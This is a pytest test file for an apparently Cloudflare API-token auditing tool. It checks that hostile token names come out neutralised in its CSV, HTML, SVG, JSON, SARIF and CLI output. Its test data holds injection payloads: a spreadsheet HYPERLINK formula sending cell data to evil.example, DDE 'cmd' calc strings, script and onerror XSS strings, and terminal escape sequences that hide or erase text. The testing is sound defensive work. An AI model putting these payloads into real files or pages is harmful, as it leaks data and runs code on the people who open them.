"""Hostile token names: whoever holds a token writes its name, and an analyst reads it.

Names drawn from spreadsheet formulas, terminal escapes, matplotlib mathtext, HTML, very long
and non-BMP text go through the sandbox (created over its API) → the audit → every report
format and the CLI's table. Invariants: no CSV cell a spreadsheet would run, no control
character on the terminal, every report written, HTML escaped (the SVG charts included: each
name drawn as text, no element from data), names preserved in the JSON.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from audit_helpers import assert_markup_is_the_reports_own
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import cftokens as cft
from cftokens._shown import label as chart_label  # the rule the charts apply
from cftokens.audit.synth import NOW, synthetic_inventory
from cftokens.cli import main
from cftokens.sandbox import Sandbox

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # newline aside: the CLI prints lines

EXAMPLES = [
    "$\\foo{$",
    "$x^{2$",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\x1b[1A\x1b[2Kerased",
    "\x1b[8mhidden\x1b[0m",
    "ci\nforged-row  user  critical  99  9999.0",
    "<script>alert(1)</script>&amp;",
    "</svg><script>alert(1)</script>",  # a chart label closing its SVG
    '"><img src=x onerror=alert(1)>',  # an attribute value breaking out
    "zero\u200bwidth\u200djoin\ufeff",
    "🙂𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \u202etxt.exe",
    "L" * 119 + "𝔘",  # the longest name a token may have (120 characters), non-BMP last
]


def hostile_sandbox(names: Sequence[str]) -> tuple[Sandbox, Any]:
    """An empty sandbox and a client whose token created one token per name over the API;
    each hostile token holds DNS Read on the zone (so it appears on the access heatmap) and
    has findings (no expiry, no IP condition)."""
    sb = Sandbox()
    zone_id = sb.store.zones()[0].id
    admin = sb.create_token(
        cft.TokenSpec(
            name="auditor",
            policies=[
                cft.Policy.allow(["API Tokens Write", "User Details Read"], user=sb.user_id),
                cft.Policy.allow(
                    ["Account Settings Read", "Account API Tokens Read"], all_accounts=True
                ),
                cft.Policy.allow(["Zone Read"], all_zones=True),
            ],
        )
    )
    client = sb.client(token=admin.secret)
    for name in names:
        client.tokens.create(
            cft.TokenSpec(name=name, policies=[cft.Policy.allow(["DNS Read"], zones=[zone_id])])
        )
    return sb, client


def check_reports(audit: Any, names: Sequence[str], folder: Path) -> dict[str, str]:
    """Every format is written; CSV has no formula cell; HTML is escaped, its charts drawn
    with each name as text and no element from data; JSON keeps names. Returns the HTML,
    JSON and SARIF texts written (what ``to_html()`` and the others return without a path)."""
    written = {"html": audit.to_html(folder / "report.html")}
    text = (folder / "report.html").read_text(encoding="utf-8")
    assert text == written["html"]
    assert "charts not drawn" not in text
    for name in names:
        if "<" in name:
            assert name not in text
    assert "<script>alert" not in text
    markup = assert_markup_is_the_reports_own(text)
    assert 'id="chart-severity"' in text
    rows = set(audit.access_matrix().index)  # the heatmap's rows: tokens with zone access
    assert ('id="chart-heatmap"' in text) == bool(rows)
    drawn = "\n".join(markup.svg_texts)
    for name in names:
        assert name not in rows or len(rows) > 40 or chart_label(name) in drawn, name

    written["json"] = audit.to_json(folder / "report.json")
    data = json.loads((folder / "report.json").read_text(encoding="utf-8"))
    listed = {t["token"]["name"] for t in data["inventory"]["tokens"]}
    assert set(names) <= listed
    assert set(names) <= {t["name"] for t in data["tokens"]}

    written["sarif"] = audit.to_sarif(folder / "report.sarif")
    sarif = json.loads((folder / "report.sarif").read_text(encoding="utf-8"))
    assert sarif["runs"][0]["results"]

    audit.to_csv(folder / "csv")
    cells = 0
    for path in (folder / "csv").glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    cells += 1
                    assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (
                        path.name,
                        cell,
                    )
    assert cells
    try:
        import pyarrow  # noqa: F401
    except ImportError:
        return written
    import pandas as pd

    audit.to_parquet(folder / "parquet")
    back = pd.read_parquet(folder / "parquet" / "tokens.parquet")
    assert set(names) <= set(back["name"])
    return written


def check_cli(
    names: Sequence[str],
    sb: Sandbox,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``cftokens audit --sandbox`` on this sandbox: no control character reaches the
    terminal, and each table row is one line (no forged rows)."""
    monkeypatch.setattr(Sandbox, "demo", classmethod(lambda cls, **kw: sb))
    capsys.readouterr()
    assert main(["audit", "--sandbox", "--no-progress"]) == 0
    out, err = capsys.readouterr()
    for stream in (out, err):
        assert not CONTROL.search(stream), repr(CONTROL.search(stream))
    table = out.split("\ntoken ", 1)[1].split("\n\n", 1)[0].splitlines()[1:]
    assert table and all(re.search(r" (user|account) +\S+ +\d+ +[\d.]+$", row) for row in table)
    assert "forged-row" not in out or "\\nforged-row" in out


def test_csv_reports_neutralise_formula_names(tmp_path: Path) -> None:
    """Every CSV table quotes a formula-looking name (and evidence quoting it); numbers stay
    numbers."""
    from audit_helpers import good, run

    audit = run(good('=HYPERLINK("http://evil","x")'), good("@SUM(1)"), good("-2+3+cmd"))
    audit.to_csv(tmp_path / "csv")
    with (tmp_path / "csv" / "tokens.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["name"] for r in rows} == {'\'=HYPERLINK("http://evil","x")', "'@SUM(1)", "'-2+3+cmd"}
    assert all(float(r["risk_score"]) >= 0 and r["n_findings"].isdigit() for r in rows)


def test_hostile_names_through_every_report_and_the_cli(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Known attack names: every report is written and none of them acts on its reader."""
    sb, client = hostile_sandbox(EXAMPLES)
    audit = cft.run_audit(client, now=sb.clock.now(), progress=False)
    assert set(EXAMPLES) <= set(audit.tokens["name"])
    assert not audit.access_matrix().empty
    check_reports(audit, EXAMPLES, tmp_path)
    check_cli(EXAMPLES, sb, monkeypatch, capsys)


_PIECES = st.sampled_from(
    ["=", "+", "-", "@", "\t", "\r", "\n", "\x1b[2K", "\x1b[8m", "\x9b", "\x7f", "\x00", "$",
     "\\frac{", "^{", "_", "<b>", "&lt;", "'", '"', "🙂", "𝔘", "\u202e", "cmd|", "A1", " "]
)  # fmt: skip
NAMES = st.lists(
    st.builds(
        lambda parts, tail, repeat: ("".join(parts) + tail) * repeat,
        st.lists(_PIECES, min_size=1, max_size=6),
        st.text(min_size=0, max_size=12),
        st.sampled_from([1, 1, 1, 30]),
    ).map(lambda s: s[:120] if s.strip() else "x"),
    min_size=1,
    max_size=3,
    unique=True,
)


@pytest.mark.slow
@settings(max_examples=8, deadline=None, suppress_health_check=list(HealthCheck))
@given(names=NAMES)
def test_generated_hostile_names_keep_the_invariants(
    names: list[str],
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Any mix of formula prefixes, controls, mathtext, HTML, non-BMP and long text keeps the
    invariants of the known examples."""
    sb, client = hostile_sandbox(names)
    audit = cft.run_audit(client, now=sb.clock.now(), progress=False)
    check_reports(audit, names, tmp_path_factory.mktemp("hostile"))
    check_cli(names, sb, monkeypatch, capsys)


def test_carriage_return_inside_a_name_forges_no_csv_row(tmp_path: Path) -> None:
    """A bare carriage return inside a name ends the row for Excel and for csv readers unless
    the cell is quoted: ``ci\\r=HYPERLINK(…)`` would start a forged row with a formula cell."""
    from audit_helpers import good, run

    names = ['ci\r=HYPERLINK("http://evil","x")', "ok\r\n@SUM(1)", "cr\r"]
    audit = run(*(good(name) for name in names))
    audit.to_csv(tmp_path / "csv")
    for path in (tmp_path / "csv").glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        assert all(len(row) == len(rows[0]) for row in rows), path.name
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), cell
    with (tmp_path / "csv" / "tokens.csv").open(newline="", encoding="utf-8") as handle:
        assert {r["name"] for r in csv.DictReader(handle)} == set(names)


# Text that is not Unicode: JSON's "\ud800" escape decodes to a lone surrogate (json.loads
# accepts it), which no UTF-8 file, DataFrame (pyarrow strings), chart or terminal can hold.
SURROGATE_NAMES = {
    "evil\ud800name": "evil\ufffdname",
    "\udfff": "\ufffd",
    "=cmd\udc80": "=cmd\ufffd",
    "high alone \ud83d": "high alone \ufffd",
    "pair \ud83d\ude00 as two code units": "pair \U0001f600 as two code units",
}


def small_inventory(n_tokens: int) -> dict[str, Any]:
    """A synthetic inventory of ``n_tokens`` tokens on a small directory (5 accounts, 40
    zones: the directory's size is not what these tests read; every report lists it)."""
    return synthetic_inventory(n_tokens, n_accounts=5, n_zones=40)


def surrogate_audit() -> Any:
    inv = small_inventory(20)
    for token, name in zip(inv["tokens"], SURROGATE_NAMES, strict=False):
        token["name"] = name
    inv["tokens"][-1]["policies"][0]["id"] = "policy\ud800id"
    inv["user"] = {**inv["user"], "email": "who\udc00@example.com"}
    inv["accounts"][0]["name"] = "Acme \ud800"
    return cft.Audit.from_records(**inv)


def test_lone_surrogates_become_replacement_characters_in_every_report(tmp_path: Path) -> None:
    """A lone surrogate in a name, a policy id, an owner or an account name: every report
    is written (charts drawn), the DataFrames render, and each name reads as U+FFFD."""
    audit = surrogate_audit()
    fixed = set(SURROGATE_NAMES.values())
    assert fixed <= set(audit.tokens["name"])
    assert audit.tokens._repr_html_().encode("utf-8")
    assert audit.findings._repr_html_().encode("utf-8")
    assert not audit.access_matrix().empty
    written = check_reports(audit, sorted(fixed), tmp_path)
    for path in [tmp_path / "report.html", tmp_path / "report.sarif", *tmp_path.glob("csv/*")]:
        text = path.read_text(encoding="utf-8")
        assert "\ufffd" in text or path.suffix == ".csv", path
    assert "Acme \ufffd" in (tmp_path / "report.json").read_text(encoding="utf-8")
    # the texts returned (without a path, the same): each encodes as UTF-8
    assert all(text.encode("utf-8") for text in written.values())


@pytest.mark.filterwarnings("error::DeprecationWarning")  # none from any code a format runs
def test_lone_surrogates_in_an_exported_audit_reach_the_cli_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``cftokens audit --input`` of a JSON export holding ``\\ud800`` escapes: the summary
    prints (the escape shown) and each format is written."""
    audit = cft.Audit.from_records(
        tokens=[{"id": "a" * 32, "name": "SURR", "status": "active", "policies": []}],
        now=NOW,
    )
    export = tmp_path / "in.json"
    export.write_text(audit.to_json().replace("SURR", "evil\\ud800 \\udfff"), encoding="utf-8")
    assert "\\ud800" in export.read_text(encoding="utf-8")
    for fmt in ("html", "json", "csv", "sarif"):
        out_path = tmp_path / f"out-{fmt}"
        argv = ["audit", "--input", str(export), "--format", fmt, "--output", str(out_path)]
        assert main([*argv, "--no-progress"]) == 0
        out, _ = capsys.readouterr()
        assert "evil\ufffd \ufffd" in out, out
        assert out_path.exists()


def test_the_cli_prints_on_a_stream_that_cannot_encode_the_text() -> None:
    """A non-UTF-8 console (``PYTHONIOENCODING=ascii``, Latin-1): a name the stream cannot
    encode is printed as escapes, not a UnicodeEncodeError."""
    import io

    from cftokens.cli import emit

    for encoding in ("ascii", "latin-1", "utf-8"):
        raw = io.BytesIO()
        stream = io.TextIOWrapper(raw, encoding=encoding)
        emit("café 🙂 x\ud800 \u202e", file=stream)
        stream.flush()
        text = raw.getvalue().decode(encoding)
        assert "\\ud800" in text and "\\u202e" in text
        assert ("🙂" in text) == (encoding == "utf-8")


def test_control_and_bidi_characters_are_shown_not_obeyed_in_html_reports() -> None:
    """An escape sequence, a NUL or a right-to-left override in a name cannot reorder or
    hide the HTML report's text: each is shown as its escape."""
    from audit_helpers import good, run

    html_text = run(good("a\u202eexe.txt"), good("b\x1b[8mhidden\x00"), good("c\u2066d")).to_html()
    for raw in ("\u202e", "\x1b", "\x00", "\u2066"):
        assert raw not in html_text
    assert "a\\u202eexe.txt" in html_text and "b\\x1b[8mhidden\\x00" in html_text


def test_lone_surrogate_escapes_in_terraform_reach_every_report(tmp_path: Path) -> None:
    """A ``.tf`` file and a ``terraform show -json`` plan naming a token ``"tf\\ud800"``: the
    Terraform lint reads it as U+FFFD and writes every report."""
    resource = """
resource "cloudflare_api_token" "t" {
  name = "tf\\ud800 hcl"
  policies = [{
    effect = "allow"
    permission_groups = [{ id = "4755a26eedb94da69e1066d98aa820be" }]
    resources = { "com.cloudflare.api.account.zone.*" = "*" }
  }]
}
"""
    (tmp_path / "tf").mkdir()
    (tmp_path / "tf" / "main.tf").write_text(resource, encoding="utf-8")
    values = {
        "name": "tf\ud800 plan",
        "policies": [
            {
                "effect": "allow",
                "permission_groups": [{"id": "4755a26eedb94da69e1066d98aa820be"}],
                "resources": {"com.cloudflare.api.account.zone.*": "*"},
            }
        ],
    }
    change = {"actions": ["create"], "after": values, "after_unknown": {}}
    address = {"address": "cloudflare_api_token.t", "mode": "managed"}
    plan = {
        "format_version": "1.2",
        "planned_values": {
            "root_module": {
                "resources": [
                    {**address, "type": "cloudflare_api_token", "name": "t", "values": values}
                ]
            }
        },
        "resource_changes": [
            {**address, "type": "cloudflare_api_token", "name": "t", "change": change}
        ],
    }
    (tmp_path / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    assert "\\ud800" in (tmp_path / "plan.json").read_text(encoding="utf-8")
    for source, name in (
        (tmp_path / "tf", "tf\ufffd hcl"),
        (tmp_path / "plan.json", "tf\ufffd plan"),
    ):
        audit = cft.Audit.from_terraform(source)
        assert list(audit.tokens["name"]) == [name]
        (tmp_path / f"out-{source.stem}").mkdir()
        check_reports(audit, [name], tmp_path / f"out-{source.stem}")


def test_lone_surrogates_in_usage_rows_read_as_u_fffd(tmp_path: Path) -> None:
    """Usage rows (dicts or a DataFrame of objects) whose path and user agent hold lone
    surrogates: the usage table (pyarrow strings) is built, with U+FFFD, and the report
    is written."""
    from datetime import UTC, datetime

    import pandas as pd

    inv = small_inventory(5)
    row = {
        "time": datetime(2026, 1, 1, tzinfo=UTC),
        "method": "GET",
        "path": "/zones/\ud800",
        "token_id": inv["tokens"][0]["id"],
        "status": 200,
        "user_agent": "ua\udc00",
    }
    for usage in ([row], pd.DataFrame([row], dtype=object)):
        audit = cft.Audit.from_records(**inv, usage=usage)
        assert audit.usage is not None
        assert list(audit.usage["path"]) == ["/zones/\ufffd"]
        assert list(audit.usage["user_agent"]) == ["ua\ufffd"]
        assert "charts not drawn" not in audit.to_html(tmp_path / "report.html")


@pytest.mark.slow
def test_the_cli_process_prints_hostile_names_on_an_ascii_console(tmp_path: Path) -> None:
    """The process boundary: ``PYTHONIOENCODING=ascii`` and the C locale, an export whose
    names hold a lone surrogate, an emoji and a bidi override: exit 0, the names escaped."""
    import os
    import subprocess
    import sys

    audit = cft.Audit.from_records(
        tokens=[{"id": "a" * 32, "name": "SURR", "status": "active", "policies": []}],
        now=NOW,
    )
    export = tmp_path / "in.json"
    export.write_text(
        audit.to_json().replace("SURR", "evil\\ud800 \\ud83d\\ude80 \\u202e"), encoding="utf-8"
    )
    env = {**os.environ, "PYTHONIOENCODING": "ascii", "LC_ALL": "C", "LANG": "C"}
    argv = ["audit", "--input", str(export), "--format", "json", "--output", str(tmp_path / "o")]
    done = subprocess.run(
        [sys.executable, "-m", "cftokens", *argv, "--no-progress"],
        capture_output=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode("ascii", "replace")
    assert b"evil\\ufffd \\U0001f680 \\u202e" in done.stdout
    assert not done.stderr


def test_an_exported_audit_given_as_a_dict_reads_lone_surrogates_as_u_fffd() -> None:
    """``Audit.from_json(dict)``: Python objects, no raw text to scan; still U+FFFD."""
    audit = cft.Audit.from_records(
        tokens=[{"id": "a" * 32, "name": "SURR", "status": "active", "policies": []}],
        now=NOW,
    )
    data = json.loads(audit.to_json().replace("SURR", "evil\\ud800"))
    again = cft.Audit.from_json(data)
    assert list(again.tokens["name"]) == ["evil\ufffd"]
    assert again.to_html().encode("utf-8")


@pytest.mark.parametrize("where", ["accounts", "zones"])
def test_a_surrogate_only_in_the_directory_is_replaced(where: str, tmp_path: Path) -> None:
    """Clean tokens, one account or zone name holding a lone surrogate: the directory's
    check finds it by itself (its dicts are walked only then) and every report writes."""
    inv = small_inventory(20)
    inv[where][0]["name"] = "dir \ud800 name"
    audit = cft.Audit.from_records(**inv)
    names = (
        [a.name for a in audit.directory.accounts]
        if where == "accounts"
        else [z.name for z in audit.directory.zones]
    )
    assert "dir \ufffd name" in names
    audit.to_html(tmp_path / "r.html")
    audit.to_json(tmp_path / "r.json")
    audit.to_sarif(tmp_path / "r.sarif")
    audit.to_csv(tmp_path / "csv")


class _ShownDict(dict):  # type: ignore[type-arg]
    """A token object (a dict subclass) whose readers see a name its storage does not hold:
    a check reading the storage (msgspec) would prove it clean."""

    def _shown(self) -> dict[str, Any]:
        return {**dict(self), "name": "evil\ud800shown"}

    def items(self) -> Any:
        return self._shown().items()

    def __getitem__(self, key: str) -> Any:
        return self._shown()[key]

    def get(self, key: str, default: Any = None) -> Any:
        return self._shown().get(key, default)


def test_a_surrogate_only_a_dict_subclass_readers_see_is_replaced() -> None:
    """The Unicode check reads a token object as the audit reads it (its ``items``), not by
    its storage: the name its readers see becomes U+FFFD and every output encodes."""
    token = _ShownDict({"id": "a" * 32, "name": "clean", "status": "active", "policies": []})
    audit = cft.Audit.from_records(tokens=[token], now=NOW)
    assert list(audit.tokens["name"]) == ["evil\ufffdshown"]
    assert audit.to_json().encode("utf-8") and audit.to_html().encode("utf-8")
